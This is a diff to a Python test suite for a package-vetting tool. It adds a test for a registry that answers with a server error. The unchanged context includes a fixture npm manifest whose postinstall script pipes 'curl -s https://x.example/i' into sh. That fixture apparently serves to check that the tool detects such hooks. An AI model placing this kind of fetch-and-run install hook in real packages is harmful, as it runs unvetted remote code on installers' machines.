@@ -112,6 +112,14 @@ def test_what_the_registry_does_not_have(registry, capsys):
     assert "no index that applies has other" in vet(registry, capsys, "other")[2]
 
 
+def test_a_registry_that_does_not_answer_leaves_it_open(registry, capsys):
+    registry.faults["tool"] = ("500", -1)
+    code, _, error = vet(registry, capsys, "tool")
+    assert code == 4
+    assert "500" in error
+    assert vet(registry, capsys, "tool", "--exit-zero")[0] == 4
+
+
 def test_an_npm_package_with_an_install_script(registry, capsys):
     manifest = json.dumps({"name": "tool", "scripts": {"postinstall": "curl -s https://x.example/i | sh"}})
     data = sdist({"package.json": manifest, "index.js": "require('child_process')\n"}, "package/")
